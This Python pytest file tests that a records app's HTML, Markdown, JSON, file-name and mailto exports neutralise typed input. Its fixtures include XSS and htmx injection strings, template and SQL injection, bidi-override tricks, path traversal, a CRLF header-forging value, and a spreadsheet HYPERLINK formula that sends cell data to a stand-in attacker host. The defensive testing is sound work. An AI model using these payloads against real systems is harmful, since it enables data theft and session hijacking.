"""What a person types stays words in every file."""

import json
import re
from datetime import date
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

import pytest

from app.core.document import Bullets, Document, Facts, Paragraph, Section, Table
from app.exports.html import fragment
from app.exports.json_file import dumped
from app.exports.mail import MOST, mailto
from app.exports.markdown import markdown, words
from app.exports.names import content_disposition, file_name

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<div hx-post="/leave" hx-trigger="load">',
    '"><div hx-swap-oob="true" id="stage">',
    "{{7*7}} ${7*7} #{7}",
    '=HYPERLINK("http://evil.example?"&A1)',
    "| a | b |",
    "# title",
    "## title ##",
    "title\n=====",
    "[x](javascript:alert(1)) ![](http://evil.example/p.png)",
    "</script><b>&amp; &lt;",
    "- item\n1. item\n+ item\n> quote\n---",
    "```\ncode\n```",
    "\u202eevil\u202c \u2066iso\u2069",
    "' OR 1=1 --",
]
TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "strong",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "bdi",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def full_of(text: str) -> Document:
    table = Table(text, ("Idea", text), ((text, "3"), ("Tea", text)), numeric=frozenset({1}))
    blocks = (
        Paragraph(text, strong=True),
        Bullets((text, "b"), ordered=True),
        Bullets((text,)),
        Facts(((text, text),)),
        table,
    )
    return Document(text, "en-GB", (Section(text, blocks, 10), Section(text, (Paragraph(text),), 20, level=3)))


@pytest.mark.parametrize("text", HOSTILE)
def test_f62_to_f67_html_has_only_our_own_tags_and_the_text_is_there(text: str) -> None:
    seen = Tags(str(fragment(full_of(text), titled=True)))
    assert set(seen.tags) == TAGS
    assert seen.attributes <= {"class", "border", "align", "scope"}
    assert seen.tags == Tags(str(fragment(full_of("plain"), titled=True))).tags
    assert "".join(c for c in text if c not in "\u202e\u202c\u2066\u2069") in seen.text


@pytest.mark.parametrize("text", HOSTILE)
def test_x21_x22_x23_markdown_keeps_its_shape_whatever_is_typed(text: str) -> None:
    made = markdown(full_of(text)).split("\n")
    plain = markdown(full_of("plain")).split("\n")
    shape = re.compile(r"^(#+ |- |\d+\. |\|)?")
    assert [bool(re.match(r"#", line)) for line in made].count(True) == 3
    rows = [line for line in made if line.startswith("|")]
    assert len(rows) == 4 and all(len(re.findall(r"(?<!\\)\|", row)) == 3 for row in rows)
    assert not re.search(r"<[a-zA-Z/!]", "\n".join(made))
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)`|^(=+|---)$", "\n".join(made), re.M)
    assert "\u202e" not in "".join(made)
    if "\n" not in text:
        assert [shape.match(line)[0] for line in made] == [shape.match(line)[0] for line in plain]  # type: ignore[index]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("# title", "\\# title"),
        ("| a |", "\\| a \\|"),
        ("<script>", "&lt;script&gt;"),
        ("- not a list", "\\- not a list"),
        ("1. not a list", "1\\. not a list"),
        ("1) not a list", "1\\) not a list"),
        ("=HYPERLINK", "\\=HYPERLINK"),
        ("a\r\n# b", "a \\# b"),
        ("snake_case *bold*", "snake\\_case \\*bold\\*"),
        ("fish & chips", "fish &amp; chips"),
        ("Ward sister, 12 March", "Ward sister, 12 March"),
        ("[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert(1))"),
    ],
)
def test_x21_signs_of_markdown_lose_their_meaning(typed: str, written: str) -> None:
    assert words(typed) == written


@pytest.mark.parametrize("text", HOSTILE)
def test_x25_json_reads_back_the_same_and_holds_no_tag(text: str) -> None:
    data: dict[str, Any] = {"text": text, text: [text, None, 3, True]}
    made = dumped(data)
    assert json.loads(made) == data
    assert "<" not in made and ">" not in made and "&" not in made


def test_x26_infinity_is_no_json() -> None:
    with pytest.raises(ValueError, match="not JSON compliant"):
        dumped({"mean": float("inf")})


@pytest.mark.parametrize(
    "team",
    [
        "../../x",
        "a/b",
        "CON",
        "CON.docx",
        "x" * 300,
        "💚💚",
        'a"b',
        "a\r\nSet-Cookie: x=1",
        "Ünité sépsis",
        "",
        "  ",
        "العربية",
        "a\\b;c='d'",
        "\u202egpj.exe",
    ],
)
def test_x30_file_names_are_plain_and_headers_cannot_be_forged(team: str) -> None:
    name = file_name(team, date(2026, 3, 10), "md")
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,80}-record-2026-03-10\.md", name)
    header = content_disposition(team, date(2026, 3, 10), "md")
    assert re.fullmatch(rf"attachment; filename=\"{re.escape(name)}\"; filename\*=UTF-8''[A-Za-z0-9%._~-]+", header)
    assert not set(unquote(header.split("''")[1])) & set('/\\:*?"<>|\r\n\u202e')


def test_x30_a_usual_team_has_a_usual_name() -> None:
    assert file_name("Sepsis pathway", date(2026, 3, 10), "json") == "sepsis-pathway-record-2026-03-10.json"
    assert "UTF-8''%C3%9Cnit%C3%A9%20record%202026-03-10.md" in content_disposition("Ünité", date(2026, 3, 10), "md")


@pytest.mark.parametrize("text", HOSTILE)
def test_re8_the_mail_has_subject_text_and_link_and_no_forged_field(text: str) -> None:
    made = mailto(full_of(text), "https://room.example/m/1/record")
    assert re.fullmatch(r"mailto:\?subject=[A-Za-z0-9%._~-]+&body=[A-Za-z0-9%._~-]+", made)
    assert unquote(made).endswith("\r\nhttps://room.example/m/1/record")


def test_re8_a_long_record_is_cut_to_what_mail_programs_take() -> None:
    long = Document("T", "en-GB", (Section("Decisions", (Bullets(("é" * 100,) * 80),), 50),))
    assert len(mailto(long, "https://room.example/m/1/record")) <= MOST
